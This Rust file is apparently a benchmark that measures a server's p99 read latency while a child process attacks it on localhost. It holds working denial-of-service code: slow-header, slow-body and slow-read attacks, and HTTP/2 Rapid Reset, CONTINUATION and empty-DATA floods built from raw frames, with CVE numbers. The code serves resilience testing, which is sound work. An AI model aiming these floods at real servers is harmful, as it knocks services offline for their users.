//! What readers notice while others attack: the p99 of an answer under attack, against the quiet one.
//!
//! The attackers come from a process of their own that gets what is left of the processors, since in life they have others than
//! the server; those that flood keep to a rate.

use std::io::ErrorKind;
use std::process::{Child, Stdio};
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpSocket;
use tokio::task::JoinSet;
use tokio::time::{interval, sleep};

use crate::beside::yielding;
use crate::load::{Load, p99_micros};
use crate::report::{Mark, Report};
use crate::server::Server;

/// What is asked for.
const READ: &str = "/api/config/product-service";
/// What takes a body.
const WRITE: &str = "/api/signals";
/// Until all attackers are there.
const SETTLE: Duration = Duration::from_secs(2);
const LENGTH: Duration = Duration::from_secs(5);
/// How long an attacker that was sent away stays away.
const AWAY: Duration = Duration::from_millis(100);
/// Attackers of each slow kind.
const SLOW: u32 = 200;
/// Attackers of each kind that floods.
const FLOODS: u32 = 16;
/// Frames that a flood sends each time.
const FRAMES: u32 = 100;

/// Requests without waiting for an answer: more than have room anywhere.
const PIPELINED: usize = 1_000;
/// Room for answers, in bytes; the kernel doubles it.
const LEAST_BUFFER: u32 = 2_048;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

pub(crate) fn measure(report: &mut Report) -> anyhow::Result<()> {
    let name = "config read under attack, p99";
    if !report.wants(name) {
        return Ok(());
    }
    let folder = tempfile::tempdir()?;
    let control = Server::control(folder.path())?;
    let load = Load {
        port: control.port,
        clients: 4,
        per_second: 500,
        key: None,
    };
    let ask = || Ok(p99_micros(&load.run(LENGTH, |_| READ.to_owned())?));
    let attacked = || {
        let _attackers = Attackers::start(control.port)?;
        std::thread::sleep(SETTLE);
        ask()
    };
    let quiet = || {
        // Until the server has done with the attackers.
        std::thread::sleep(SETTLE);
        ask()
    };
    report.add(name, "quiet", "µs", Mark::AtMost(2.0), attacked, quiet)
}

/// All attackers, in a process of their own, until they are dropped.
struct Attackers(Child);

impl Attackers {
    fn start(port: u16) -> anyhow::Result<Self> {
        let child = yielding()?
            .args(["attack", &format!("127.0.0.1:{port}")])
            .stdout(Stdio::null())
            .spawn()?;
        Ok(Self(child))
    }
}

impl Drop for Attackers {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Attacks until it is killed.
#[tokio::main(flavor = "current_thread")]
pub(crate) async fn attack(host: String) -> anyhow::Result<()> {
    let mut attackers = JoinSet::new();
    for attack in Attack::ALL {
        let count = attack.attackers();
        for number in 0..count {
            // Not all at once: what is measured is what their number costs, not their march in step.
            let delay = attack.interval() * number / count;
            attackers.spawn(attack.go_on(host.clone(), delay));
        }
    }
    attackers.join_all().await;
    Ok(())
}

/// A head in HTTP/2: fields with the numbers that their names have in HPACK's static table.
fn head(method: &str, target: &str, host: &str) -> Vec<u8> {
    let mut head = vec![];
    for (name, value) in [
        (&[2][..], method),
        (&[6], "http"),
        (&[4], target),
        (&[1], host),
        (&[15, 16], "application/json"),
    ] {
        head.extend(name);
        // Shorter than 127, and so in one byte.
        head.push(value.len() as u8);
        head.extend(value.as_bytes());
    }
    head
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Attack {
    /// A head that never ends.
    SlowHead,
    /// A body that never ends.
    SlowBody,
    /// Many answers, of which none is read.
    SlowRead,
    /// Many answers that there is no room for (HTTP/2).
    NoWindow,
    /// Requests that are taken back at once (CVE-2023-44487).
    Resets,
    /// A head of frame after frame (CVE-2024-27316).
    Continuation,
    /// Frames of a body with nothing in them (CVE-2019-9518).
    EmptyData,
}

impl Attack {
    const ALL: [Self; 7] = [
        Self::SlowHead,
        Self::SlowBody,
        Self::SlowRead,
        Self::NoWindow,
        Self::Resets,
        Self::Continuation,
        Self::EmptyData,
    ];

    fn is_slow(self) -> bool {
        !matches!(self, Self::Resets | Self::Continuation | Self::EmptyData)
    }

    fn attackers(self) -> u32 {
        if self.is_slow() { SLOW } else { FLOODS }
    }

    fn interval(self) -> Duration {
        if self.is_slow() {
            Duration::from_secs(1)
        } else {
            Duration::from_millis(10)
        }
    }

    /// Who is sent away comes again.
    async fn go_on(self, host: String, delay: Duration) {
        sleep(delay).await;
        loop {
            // However it ended.
            let _ = self.run(&host).await;
            sleep(AWAY).await;
        }
    }

    async fn run(self, host: &str) -> anyhow::Result<()> {
        let socket = TcpSocket::new_v4()?;
        if self == Self::SlowRead {
            socket.set_recv_buffer_size(LEAST_BUFFER)?;
        }
        let mut stream = socket.connect(host.parse()?).await?;
        stream.write_all(&self.opening(host)).await?;
        let mut pace = interval(self.interval());
        let mut sink = vec![0; 16 << 10];
        for turn in 0.. {
            pace.tick().await;
            stream.write_all(&self.piece(turn, host)).await?;
            match stream.try_read(&mut sink) {
                Ok(0) => return Ok(()),
                Err(error) if error.kind() != ErrorKind::WouldBlock => return Err(error.into()),
                _ => {}
            }
        }
        Ok(())
    }

    /// What comes first.
    fn opening(self, host: &str) -> Vec<u8> {
        let get = format!("GET {READ} HTTP/1.1\r\nHost: {host}\r\n");
        let post = format!(
            "POST {WRITE} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
        );
        match self {
            Self::SlowHead => (get + "X-Slow: ").into_bytes(),
            Self::SlowBody => post.into_bytes(),
            Self::SlowRead => (get + "\r\n").repeat(PIPELINED).into_bytes(),
            Self::NoWindow => {
                let mut bytes = preface(&[0, 4, 0, 0, 0, 0]);
                for stream in (1..200).step_by(2) {
                    let flags = END_STREAM | END_HEADERS;
                    bytes.extend(frame(HEADERS, flags, stream, &head("GET", READ, host)));
                }
                bytes
            }
            Self::Resets => preface(&[]),
            Self::Continuation => {
                let first = frame(HEADERS, END_STREAM, 1, &head("GET", READ, host));
                [preface(&[]), first].concat()
            }
            Self::EmptyData => {
                let first = frame(HEADERS, END_HEADERS, 1, &head("POST", WRITE, host));
                [preface(&[]), first].concat()
            }
        }
    }

    /// What comes again and again.
    fn piece(self, turn: u32, host: &str) -> Vec<u8> {
        match self {
            Self::SlowHead | Self::SlowBody => b"x".to_vec(),
            Self::SlowRead => Vec::new(),
            Self::NoWindow => frame(PING, 0, 0, &[0; 8]),
            Self::Resets => (0..FRAMES)
                .flat_map(|index| {
                    let stream = (turn * FRAMES + index) * 2 + 1;
                    let flags = END_STREAM | END_HEADERS;
                    let request = frame(HEADERS, flags, stream, &head("GET", READ, host));
                    [request, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
                })
                .collect(),
            Self::Continuation => {
                frame(CONTINUATION, 0, 1, b"\0\x01x\x01x").repeat(FRAMES as usize)
            }
            Self::EmptyData => frame(DATA, 0, 1, &[]).repeat(FRAMES as usize),
        }
    }
}

fn preface(settings: &[u8]) -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = (payload.len() as u32).to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
